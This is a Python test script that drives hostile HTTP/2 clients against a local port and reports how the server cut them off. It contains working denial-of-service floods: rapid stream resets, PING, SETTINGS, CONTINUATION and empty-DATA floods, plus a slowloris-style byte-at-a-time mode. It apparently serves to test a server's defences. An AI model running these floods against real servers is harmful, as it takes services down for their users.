#!/usr/bin/env python3
"""One hostile client of one kind, over and over until its standard input ends; then tells how it was got rid of.

flood.py KIND PORT; prints one JSON object: connections made, seconds that the longest lived, their GOAWAY codes.
"""

import json
import select
import struct
import sys
import time

import raw_http2 as h2

RESET_PER_WRITE = 200
GIVE_UP_SECONDS = 15


def resets(stream: int) -> bytes:
    out = []
    for number in range(stream, stream + 2 * RESET_PER_WRITE, 2):
        out.append(h2.frame(h2.HEADERS, h2.END_HEADERS, number, h2.request_head()))
        out.append(h2.frame(h2.RST_STREAM, 0, number, struct.pack(">I", 8)))
    return b"".join(out)


def pings(_stream: int) -> bytes:
    return h2.frame(h2.PING, 0, 0, bytes(8)) * 1000


def settings(_stream: int) -> bytes:
    return h2.frame(h2.SETTINGS, 0, 0) * 1000


def continuations(stream: int) -> bytes:
    first = h2.frame(h2.HEADERS, 0, 1, h2.request_head()) if stream == 1 else b""
    return first + h2.frame(h2.CONTINUATION, 0, 1, h2.field("x-padding", "y" * 8000)) * 4


def empty_data(stream: int) -> bytes:
    first = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.request_head()) if stream == 1 else b""
    return first + h2.frame(h2.DATA, 0, 1, b"") * 1000


FLOODS = {"resets": resets, "pings": pings, "settings": settings, "continuations": continuations, "empty_data": empty_data}


def is_over() -> bool:
    return bool(select.select([sys.stdin], [], [], 0)[0])


def flood(kind: str, port: int) -> dict:
    lives, codes = [], set()
    while not is_over():
        began, stream = time.monotonic(), 1
        with h2.Connection(port) as connection:
            connection.socket.settimeout(GIVE_UP_SECONDS)
            while connection.send(FLOODS[kind](stream)) and time.monotonic() - began < GIVE_UP_SECONDS:
                stream += 2 * RESET_PER_WRITE
                codes |= connection.goaway_codes()
            lives.append(time.monotonic() - began)
            codes |= connection.goaway_codes()
    return {"connections": len(lives), "longest": max(lives, default=0), "codes": sorted(codes)}


def slowly(port: int) -> dict:
    """Prefaces of HTTP/2 and requests of HTTP/1.1, the first or a later one, a byte at a time, on a hundred connections."""
    lives, open_ones = [], []
    while not is_over():
        while len(open_ones) < 100:
            text = b"POST /v3/kv/range HTTP/1.1\r\nHost: x\r\nX-Slow: " if len(open_ones) % 3 else h2.PREFACE
            connection = h2.Connection(port, hello=False)
            if len(open_ones) % 3 == 2:
                connection.send(b"GET /version HTTP/1.1\r\nHost: x\r\n\r\n")
                connection.socket.recv(4096)
            open_ones.append([connection, iter(text + b"y" * 1000), time.monotonic()])
        for one in list(open_ones):
            connection, text, began = one
            byte = next(text, None)
            sent = connection.send(bytes([byte])) if byte is not None else True
            if not sent or connection.closed_within(0):
                lives.append(time.monotonic() - began)
                connection.socket.close()
                open_ones.remove(one)
        time.sleep(1)  # that is the attack
    return {"connections": len(lives), "longest": max(lives, default=0), "codes": []}


if __name__ == "__main__":
    seen = slowly(int(sys.argv[2])) if sys.argv[1] == "slowly" else flood(sys.argv[1], int(sys.argv[2]))
    print(json.dumps(seen))
